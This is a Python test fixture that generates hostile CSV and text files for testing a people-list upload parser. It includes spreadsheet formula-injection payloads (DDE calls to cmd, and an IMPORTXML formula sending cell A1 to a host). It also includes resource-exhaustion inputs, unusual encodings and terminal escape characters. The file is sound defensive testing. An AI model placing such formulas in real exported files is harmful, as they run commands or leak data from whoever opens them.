# SPDX-FileCopyrightText: 2026 the seminarapp authors
# SPDX-License-Identifier: EUPL-1.2

"""Hostile lists as text."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import partial

from tests.hostile_files.hostile_file import HostileFile, repeated

_HEAD = "Namn,Organisation,E-post\n"
_ROW = "Ada Berg,Vattenverket,ada@example.org\n"
_FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org";"x")',
    "@SUM(1+1)*cmd|'x'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    'DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://example.org/?",A1),"//a")',
)


def hostile() -> Iterator[HostileFile]:
    """All of them."""
    yield from _tables()
    yield from _coded()


def _tables() -> Iterator[HostileFile]:
    for place, formula in enumerate(_FORMULAS):
        quoted = formula.replace('"', '""')
        yield _file(f"formula {place}", partial(_rows, f'"{quoted}","{quoted}","{quoted}"\n'))
    yield _file("NUL in it", partial(_rows, "Ada\0Berg,,\n"))
    yield _file("a quotation mark that nothing closes", lambda: _rows('"' + _ROW * 100_000))
    yield _file(
        "a hundred megabytes after an unclosed mark", lambda: _rows('"') + repeated(_ROW, 100_000_000)
    )
    yield _file("a cell of two megabytes", partial(_rows, f'"{"x" * 2_000_000}",,\n'))
    yield _file("cells of a hundred thousand letters", partial(_rows, ("x" * 100_000 + ",,\n") * 40))
    yield _file("a million quotation marks", partial(_rows, '"' * 4_000_000))
    yield _file("quotation marks within", partial(_rows, 'a"b"c,"d"e"f",""""\n' * 5_000))
    yield _file(
        "ten thousand columns",
        lambda: ",".join(f"c{n}" for n in range(10_000)) + "\n" + "," * 9_999 + "\n",
    )
    yield _file("ten thousand columns, known heads", lambda: "Namn," * 10_000 + "\n" + "Ada Berg," * 10_000)
    yield _file("a million columns", lambda: "Namn" + "," * 4_900_000)
    yield _file("ten thousand columns in ten thousand rows", lambda: _HEAD + ("," * 480 + "\n") * 10_000)
    yield _file("one wide row among ten thousand", lambda: _HEAD + _ROW * 9_000 + "," * 199 + "\n")
    yield _file("ragged", lambda: _HEAD + "".join("," * (n % 200) + "\n" for n in range(9_000)))
    yield _file("one column", lambda: b"Namn\nAda Berg\nBo Ek\n")
    yield _file("one head", lambda: b"Namn\n")
    yield _file("heads alone", lambda: _HEAD)
    yield _file("empty", lambda: b"")
    yield _file("blanks", lambda: b" \n\t\n" * 1_000_000)
    yield _file("commas", lambda: b"," * 4_000_000)
    yield _file(
        "heads alike",
        lambda: (
            b"Namn,Namn,Namn,E-post,E-post\n" + b"Ada Berg,Bo Ek,Cia Al,a@example.org,b@example.org\n" * 10
        ),
    )
    yield _file(
        "line ends of every kind",
        lambda: b"Namn,E-post\rAda,a@example.org\r\nBo,b@example.org\n\rCia,c@example.org\n",
    )
    yield _file("a hundred thousand rows", lambda: _HEAD + _ROW * 100_000)
    yield _file(
        "ten thousand people of one name",
        lambda: _HEAD + "".join(f"Ada Berg,O {n},a{n}@example.org\n" for n in range(9_999)),
    )
    yield _file(
        "ten thousand people",
        lambda: _HEAD + "".join(f"Ada {n},O {n},a{n}@example.org\n" for n in range(9_999)),
    )
    yield _file("ten thousand people, nothing tells them apart", lambda: _HEAD + "Ada Berg,,\n" * 9_999)
    yield _file("UTF-16 without a mark", lambda: (_HEAD + _ROW).encode("utf-16-le"))


def _coded() -> Iterator[HostileFile]:
    yield _file("UTF-16 that begins as UTF-8 would", lambda: ("å,ä\n" + _HEAD + _ROW).encode("utf-16-be"))
    for codec in ("utf-16", "utf-32", "utf-7", "cp037", "latin-1", "cp1252", "mac-roman", "gb18030"):
        yield _file(f"in {codec}", partial((_HEAD + "Åsa Öman,Verket,a@example.org\n").encode, codec))
    yield _file("half of UTF-16", lambda: (_HEAD + _ROW).encode("utf-16")[:-1])
    yield _file("UTF-16 with half a surrogate", lambda: b"\xff\xfeN\0a\0m\0n\0;\0x\0\n\0\x00\xd8;\0x\0")
    yield _file("it says what separates", lambda: b"sep=;\nNamn;E-post\nAda;a@example.org\n")
    yield _file("it says that nothing separates", lambda: b"sep=\n" + _HEAD.encode() + _ROW.encode())
    yield _file("addresses made to be slow", lambda: _HEAD + ("a@" * 20_000 + ",,\n") * 50)
    yield _file("addresses without end", lambda: _HEAD + ",," + "a." * 1_000_000 + "@")
    yield _file(
        "lines made to be slow", lambda: ("x" * 1_900 + "@" + "a." * 900 + " \n").encode() * 1_000, ".txt"
    )
    yield _file("at signs without end", lambda: ("@" * 1_999 + "\n").encode() * 2_000, ".txt")
    yield _file("blanks before nothing", lambda: ("a" + " " * 1_990 + "b\n").encode() * 2_000, ".txt")
    yield _file("names of marks that combine", lambda: _HEAD + "e" + "\u0301" * 1_000_000 + ",,\n")
    yield _file("heads of marks that combine", lambda: "Namn,a" + "\u0301" * 1_000_000 + "\nAda,b\n")
    yield _file(
        "characters that command", partial(_rows, "\x1b[2J\x1b]0;x\x07,\u202e,\u200b@example.org\n" * 10)
    )
    yield _file("a picture", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100)
    yield _file("another program", lambda: b"MZ" + bytes(range(1, 256)) * 1_000)


def _file(tries: str, make: Callable[[], bytes | str], suffix: str = ".csv") -> HostileFile:
    return HostileFile(tries, suffix, make, "people")


def _rows(rows: str) -> bytes:
    return (_HEAD + rows).encode()
